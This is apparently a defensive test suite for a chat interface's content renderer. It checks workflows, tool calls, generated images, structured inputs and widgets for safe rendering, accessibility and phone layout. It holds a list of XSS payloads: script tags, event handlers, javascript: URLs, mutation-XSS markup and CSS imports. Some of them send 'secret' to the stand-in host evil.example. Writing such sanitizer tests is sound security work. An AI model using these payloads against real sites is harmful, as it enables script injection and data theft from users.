// Every kind of item in the real Chromium, alone and hostile: what is shown and what is answered.
// Foreign values do nothing anywhere.
import { describe, expect, it, vi } from 'vitest'
import {
  answer,
  type ContentPage,
  contentPages,
  expectHarmless,
  item,
  seriousFindings,
} from './content-page.ts'

const { open } = contentPages()

const EVIL = 'https://evil.example'

const PAYLOADS = [
  `<script>globalThis.owned = 1</script>`,
  `<img src=x onerror="globalThis.owned = 1">`,
  `<img src="${EVIL}/pixel?d=secret">`,
  `<svg onload="globalThis.owned = 1"><script>globalThis.owned = 1</script></svg>`,
  `<math><mtext><table><mglyph><style><img src=${EVIL}/m onerror=globalThis.owned=1>`,
  `<iframe srcdoc="<script>parent.owned = 1</script>"></iframe>`,
  `[click](javascript:globalThis.owned=1) ![p](${EVIL}/i?d=secret) [r][1]\n\n[1]: javascript:globalThis.owned=1`,
  `<link rel=stylesheet href="${EVIL}/style.css"><style>@import '${EVIL}/import.css'</style>`,
  `"><details open ontoggle=globalThis.owned=1>`,
  `javascript:globalThis.owned=1`,
  `url(${EVIL}/css)`,
  `red;background:url(${EVIL}/css)`,
  `__proto__`,
  `\`\`\`<script>\n</script>\n\`\`\``,
] as const

const workflow = (fields: Readonly<Record<string, unknown>>, tasks: readonly unknown[] = []) =>
  item('workflow', { workflow: { type: 'reasoning', expanded: false, tasks, ...fields } })
const task = (type: string, fields: Readonly<Record<string, unknown>>) => ({
  type,
  status_indicator: 'complete',
  ...fields,
})

const questions = (fields: Readonly<Record<string, unknown>> = {}) =>
  item('structured_input', {
    status: 'pending',
    inputs: [
      {
        id: 'one',
        type: 'multiple_choice',
        question: 'Which one?',
        multiple: false,
        options: [{ value: 'A' }, { value: 'B' }],
      },
      {
        id: 'many',
        type: 'multiple_choice',
        question: 'Which ones?',
        multiple: true,
        options: [{ value: 'C' }, { value: 'D' }],
      },
      { id: 'free', type: 'freeform', question: 'Why?', description: 'In a word' },
    ],
    ...fields,
  })

describe('an item', () => {
  it('that is a workflow opens and closes, tells how its steps stand, and stays as the person left it', async () => {
    const at = await open()
    const steps = [
      task('thought', { title: 'Thinking about **it**', content: 'A *thought*' }),
      task('web_search', {
        queries: ['who'],
        sources: [{ type: 'url', title: 'Site', url: 'https://site.example/' }],
        status_indicator: 'loading',
      }),
      task('file', { title: 'Files', sources: [{ type: 'file', title: 'F', filename: 'f.pdf' }] }),
      task('image', {}),
      task('custom', { title: 'Custom', icon: 'bolt', content: 'Done' }),
      task('later', { title: 'Of a later kind' }),
    ]
    const pending = workflow({}, steps.slice(0, 2))
    await at.show(pending)
    const summary = at.page.locator('summary')
    expect(await summary.textContent()).toBe('Searching the web')
    expect(await at.page.locator('.task').first().isVisible()).toBe(false)
    await summary.click()
    expect(await at.page.locator('.task .md em').textContent()).toBe('thought')
    expect(await at.page.getByRole('img', { name: 'In progress' }).count()).toBe(1)
    expect(await at.page.locator('.details a').textContent()).toBe('Site (https://site.example/)')
    await at.show({
      ...pending,
      workflow: { type: 'reasoning', expanded: false, tasks: steps, summary: { duration: 12 } },
    })
    expect(await summary.textContent()).toBe('Thought for 12 s')
    expect(await at.page.locator('.task').count()).toBe(6)
    expect(await at.page.locator('.task').last().isVisible()).toBe(true)
    await at.show(
      workflow({ summary: { title: 'Looked it up', icon: 'search' }, expanded: true }, steps),
    )
    expect(await at.page.locator('details').last().getAttribute('open')).not.toBeNull()
    await expectHarmless(at)
    expect(await seriousFindings(at)).toEqual([])
  })

  it('that is a step, a tool call, the end of a turn, a hidden one or of an unknown kind is quiet or nothing', async () => {
    const at = await open()
    await at.show(item('task', { task: task('custom', { title: 'A step' }) }))
    const call = item('client_tool_call', {
      status: 'pending',
      call_id: 'c',
      name: 'get_place',
      arguments: { secret: 1 },
    })
    await at.show(call)
    expect(await at.page.getByRole('img', { name: 'In progress' }).count()).toBe(1)
    await at.show({ ...call, status: 'completed', output: { secret: 2 } })
    expect(await at.page.getByRole('img', { name: 'Done' }).count()).toBe(2)
    await at.show(item('end_of_turn', {}))
    await at.show(item('hidden_context_item', { content: 'hidden' }))
    await at.show(item('of_tomorrow', { content: 'x' }))
    await at.show(item('assistant_message', { content: 'not a list' }))
    expect(await at.page.locator('main').evaluate((main) => main.shadowRoot?.textContent)).toBe(
      'A stepUsing get_placeThis part cannot be shown here.This part cannot be shown here.',
    )
    expect(await at.page.locator('.item:visible').count()).toBe(4)
    await expectHarmless(at)
  })

  it('a picture that is all in its address is shown; one of another kind is no picture, and does not fill the page', async () => {
    const one = await open()
    const dot =
      'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=='
    const made = item('generated_image', {
      image: { id: 'i', url: `data:image/png;base64,${dot}` },
    })
    await one.show(made)
    // The page's policy forbids the browser's own waiting, which evaluates a text again and again.
    await vi.waitFor(async () =>
      expect(
        await one.page.evaluate(`content.root.querySelector('.generated img')?.naturalWidth`),
      ).toBe(1),
    )
    for (const url of [
      `data:image/svg+xml;base64,${'A'.repeat(100_000)}`,
      `data:text/html;base64,${'A'.repeat(100_000)}`,
      `data:image/png,${'A'.repeat(100_000)}`,
    ]) {
      await one.show({ ...made, image: { id: 'i', url } })
      expect(
        await one.page.evaluate(
          `[content.root.querySelectorAll('.generated img').length, content.root.querySelector('.generated').textContent.length < 1000]`,
        ),
      ).toEqual([0, true])
    }
    // Only the app makes such an address. A text of the model's that has one stays a text.
    await one.markdown(`![x](data:image/png;base64,${dot})`)
    expect(await one.page.evaluate(`content.root.querySelectorAll('#notice img').length`)).toBe(0)
    await expectHarmless(one)
  })

  it('that is an image is loaded from its own origin alone, and a link otherwise', async () => {
    const at = await open()
    const made = item('generated_image', {})
    await at.show(made)
    expect(await at.page.getByRole('status').textContent()).toBe('Making an image…')
    await at.show({ ...made, image: { id: 'i', url: new URL('/own.svg', at.page.url()).href } })
    expect(await at.page.getByRole('img', { name: 'Generated image' }).count()).toBe(1)
    await at.show({ ...made, image: { id: 'i', url: `${EVIL}/x.png?d=secret` } })
    expect(await at.page.getByRole('img').count()).toBe(0)
    expect(await at.page.getByRole('link').textContent()).toBe(
      `Generated image (${EVIL}/x.png?d=secret)`,
    )
    await at.show({ ...made, image: { id: 'i', url: 'javascript:globalThis.owned=1' } })
    expect(await at.page.getByRole('link').count()).toBe(0)
    await expectHarmless(at)
  })
})

describe('a structured input', () => {
  it('a structured input sends the answers by question, once, and says what was refused', async () => {
    const at = await open()
    const asked = questions()
    await at.show(asked)
    await at.page.getByRole('button', { name: 'Submit' }).click()
    expect(await at.page.getByRole('alert').textContent()).toBe('Please fill in this field.')
    const one = at.page.getByRole('group', { name: 'Which one?' })
    await one.getByRole('textbox').fill('Z')
    await one.getByLabel('B').check()
    expect(await one.getByRole('textbox').inputValue()).toBe('')
    const many = at.page.getByRole('group', { name: 'Which ones?' })
    await many.getByLabel('C').check()
    await many.getByLabel('D').check()
    await many.getByRole('textbox').fill(' mine ')
    // What the person entered stays when the item comes again.
    await at.show({ ...asked })
    await at.page.getByRole('button', { name: 'Submit' }).dblclick()
    expect(await at.calls()).toEqual([
      [
        'answer',
        {
          status: 'answered',
          answers: {
            one: { values: ['B'], skipped: false },
            many: { values: ['C', 'D', 'mine'], skipped: false },
            free: { values: [], skipped: true },
          },
        },
        asked.id,
      ],
    ])
    expect(await at.page.getByRole('button', { name: 'Skip' }).getAttribute('aria-disabled')).toBe(
      'true',
    )
    await at.page.evaluate(`content.release('Not now')`)
    expect(await at.page.getByRole('alert').textContent()).toBe('Not now')
    expect(await at.page.getByLabel('C').isChecked()).toBe(true)
    expect(await seriousFindings(at)).toEqual([])
  })

  it('a structured input is skipped as a whole, waits while an answer is being written, and shows its answers afterwards', async () => {
    const at = await open()
    const asked = questions()
    await at.show(asked)
    await at.page.evaluate('content.setBusy(true)')
    await at.page.getByRole('button', { name: 'Skip' }).click({ force: true })
    expect(await at.calls()).toEqual([])
    await at.page.evaluate('content.setBusy(false)')
    await at.page.getByRole('button', { name: 'Skip' }).click()
    const skipped = { values: [], skipped: true }
    expect(await at.calls()).toEqual([
      [
        'answer',
        { status: 'skipped', answers: { one: skipped, many: skipped, free: skipped } },
        asked.id,
      ],
    ])
    const answers = [
      { values: ['B'], skipped: false },
      { values: ['C', 'mine'], skipped: false },
      skipped,
    ]
    await at.show({
      ...asked,
      status: 'answered',
      inputs: (asked.inputs as object[]).map((one, i) => ({ ...one, answer: answers[i] })),
    })
    expect(await at.page.locator('form').count()).toBe(0)
    expect(await at.page.locator('.answers dd').allTextContents()).toEqual([
      'B',
      'C',
      'mine',
      'Skipped',
    ])
    expect(await seriousFindings(at)).toEqual([])
  })
})

/** One item of every kind with the payload everywhere that a text can be. */
function everywhere(payload: string): readonly unknown[] {
  const source = (type: string) => ({
    type,
    title: payload,
    description: payload,
    url: payload,
    filename: payload,
    id: payload,
    icon: payload,
    label: payload,
    data: { [payload]: payload },
  })
  const sources = ['url', 'file', 'entity'].map(source)
  const tasks = ['custom', 'web_search', 'thought', 'file', 'image'].map((type) =>
    task(type, {
      title: payload,
      content: payload,
      icon: payload,
      title_query: payload,
      queries: [payload],
      sources,
    }),
  )
  const component = (type: string) => ({
    type,
    key: payload,
    id: payload,
    name: payload,
    value: payload,
    label: payload,
    src: payload,
    alt: payload,
    color: payload,
    background: payload,
    width: payload,
    padding: payload,
    gap: payload,
    margin: payload,
    border: { size: 1, color: payload, style: payload },
    radius: payload,
    flex: payload,
    placeholder: payload,
    defaultValue: payload,
    pattern: payload,
    iconStart: payload,
    iconEnd: payload,
    fieldName: payload,
    ariaLabel: payload,
    min: payload,
    options: [{ value: payload, label: payload, description: payload }],
    xAxis: payload,
    data: [{ [payload]: payload, y: 1 }],
    series: [{ type: payload, dataKey: 'y', label: payload, color: payload }],
    align: payload,
    justify: payload,
    aspectRatio: payload,
    editable: undefined as unknown,
  })
  const types = [
    'Box',
    'Row',
    'Col',
    'Form',
    'Spacer',
    'Divider',
    'Text',
    'Title',
    'Caption',
    'Markdown',
    'Badge',
    'Icon',
    'Image',
    'Button',
    'Input',
    'Textarea',
    'Select',
    'DatePicker',
    'Checkbox',
    'RadioGroup',
    'Label',
    'Chart',
    'Transition',
    payload,
  ]
  const children = [
    ...types.map(component),
    { ...component('Text'), editable: { name: payload, placeholder: payload, pattern: payload } },
  ]
  return [
    answer(
      payload,
      sources.map((one) => ({ type: 'annotation', index: 0, source: one })),
    ),
    item('user_message', {
      content: [
        { type: 'input_text', text: payload },
        { type: 'input_tag', id: payload, text: payload, data: {}, interactive: true },
      ],
      attachments: [
        { id: payload, type: 'image', name: payload, mime_type: payload, preview_url: payload },
      ],
      quoted_text: payload,
      inference_options: {},
    }),
    item('client_tool_call', {
      status: 'completed',
      call_id: payload,
      name: payload,
      arguments: { [payload]: payload },
      output: payload,
    }),
    workflow({ summary: { title: payload, icon: payload }, expanded: true }, tasks),
    item('task', { task: tasks[0] }),
    item('generated_image', { image: { id: payload, url: payload } }),
    item('structured_input', {
      status: 'pending',
      inputs: [
        {
          id: payload,
          type: 'multiple_choice',
          question: payload,
          multiple: true,
          options: [{ value: payload }],
        },
        { id: `${payload}2`, type: 'freeform', question: payload, description: payload },
      ],
    }),
    item('widget', {
      widget: {
        type: 'Card',
        children,
        status: { text: payload, icon: payload, favicon: payload },
        background: payload,
        theme: payload,
      },
    }),
    item('widget', {
      widget: {
        type: 'ListView',
        children: [
          {
            type: 'ListViewItem',
            children,
            onClickAction: { type: payload, payload: { [payload]: payload } },
          },
        ],
      },
    }),
    item('widget', { widget: { type: 'Basic', children, direction: payload, gap: payload } }),
    item(payload, {}),
  ]
}

describe('a hostile value', () => {
  it.each(PAYLOADS)('a hostile value does nothing anywhere: %s', async (payload) => {
    const at = await open()
    await at.page.evaluate(`content.items(${JSON.stringify(everywhere(payload))})`)
    await at.markdown(payload)
    for (const button of await at.page.getByRole('button').all())
      await button.click({ force: true, timeout: 2000 }).catch(() => {})
    await at.page.evaluate('content.setBusy(true)')
    await expectHarmless(at)
    const targets = await at.page.evaluate<readonly string[]>(
      `[...content.root.querySelectorAll('[href],[src],[action],[formaction]')].map((one) => one.getAttribute('href') ?? one.getAttribute('src'))`,
    )
    expect(targets.filter((one) => !/^https:\/\/(evil|site)\.example\//.test(one))).toEqual([])
    expect(
      await at.page.evaluate(
        `[...content.root.querySelectorAll('[style]')].filter((one) => /url|expression|javascript/i.test(one.getAttribute('style'))).length`,
      ),
    ).toBe(0)
  })
})

describe('all of it', () => {
  const shown = async (at: ContentPage) => {
    await at.page.evaluate(
      `content.items(${JSON.stringify([...everywhere('words'), questions()])})`,
    )
    await at.markdown('A notice with [a link](https://site.example/x) and `code`')
  }

  it.each([{ dark: false }, { dark: true }])(
    'the content has nothing serious for axe: %o',
    async (options) => {
      const at = await open(options)
      await shown(at)
      expect(await seriousFindings(at)).toEqual([])
    },
  )

  it('fits a phone: nothing makes the page wider', async () => {
    const at = await open({ width: 360 })
    await shown(at)
    await at.show(
      answer(
        `${'w'.repeat(300)}\n\n| ${'a | '.repeat(30)}\n|${'-|'.repeat(30)}\n\n\`\`\`\n${'x'.repeat(400)}\n\`\`\`\n\n<https://site.example/${'p'.repeat(300)}>`,
      ),
    )
    await at.show(
      item('widget', {
        widget: {
          type: 'Basic',
          children: [
            {
              type: 'Box',
              width: 3000,
              minWidth: 2000,
              height: 10,
              children: [{ type: 'Text', value: 'wide' }],
            },
          ],
        },
      }),
    )
    expect(await at.page.evaluate('document.documentElement.scrollWidth')).toBeLessThanOrEqual(360)
  })
})
